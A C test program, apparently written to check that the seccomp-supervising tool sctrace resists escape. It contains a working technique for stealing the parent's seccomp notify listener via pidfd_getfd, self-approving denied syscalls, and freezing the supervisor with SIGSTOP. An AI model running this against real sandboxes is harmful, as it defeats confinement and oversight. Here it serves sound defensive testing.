/* stealer MODE DIR: tries to take sctrace's seccomp listener out of its parent (sctrace) and
 * answer its own denied calls: it looks for "anon_inode:seccomp notify" among the parent's
 * descriptors, copies it with pidfd_getfd(pidfd_open(getppid())), lets a thread answer every
 * notification with "continue", and with MODE "attack" creates DIR/d (mkdirat). With MODE "quiet"
 * it makes the same calls on the parent's descriptor 0 and no mkdirat, so that a recording of it
 * allows pidfd_open and pidfd_getfd. Prints "steal: R" (the copied descriptor or -errno) and
 * "mkdirat: R". Exit status: 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <linux/seccomp.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

static int lfd = -1;

static void *answer(void *arg) {
	for (int i = 0; i < 1000 && lfd >= 0; i++) {
		struct seccomp_notif n;
		memset(&n, 0, sizeof n);
		if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &n) < 0)
			continue;
		struct seccomp_notif_resp r = {.id = n.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
		ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &r);
	}
	return arg;
}

static void report(const char *what, long r) {
	char buf[64];
	int n = snprintf(buf, sizeof buf, "%s: %ld\n", what, r);
	write(1, buf, n);
}

int main(int argc, char **argv) {
	if (argc != 3)
		return 2;
	int attack = strcmp(argv[1], "attack") == 0;
	char path[4096], link[256], buf[256];
	snprintf(path, sizeof path, "%s/d", argv[2]);
	pid_t pp = getppid();
	int target = 0;
	for (int fd = 0; fd < 64; fd++) {
		snprintf(link, sizeof link, "/proc/%d/fd/%d", pp, fd);
		ssize_t n = readlink(link, buf, sizeof buf - 1);
		if (n > 0) {
			buf[n] = 0;
			if (attack && strstr(buf, "seccomp notify"))
				target = fd;
		}
	}
	long pfd = syscall(SYS_pidfd_open, pp, 0);
	long fd = pfd < 0 ? -errno : syscall(SYS_pidfd_getfd, (int)pfd, target, 0);
	report("steal", fd < 0 && fd != -errno ? -errno : fd);
	if (!attack)
		return 0;
	pthread_t th;
	if (fd >= 0) {
		lfd = fd;
		pthread_create(&th, NULL, answer, NULL);
	}
	kill(pp, SIGSTOP); /* keep sctrace from answering first */
	struct timespec ts = {0, 50000000};
	nanosleep(&ts, NULL);
	long r = syscall(SYS_mkdirat, AT_FDCWD, path, 0700);
	report("mkdirat", r < 0 ? -errno : r);
	kill(pp, SIGCONT);
	_exit(0);
}
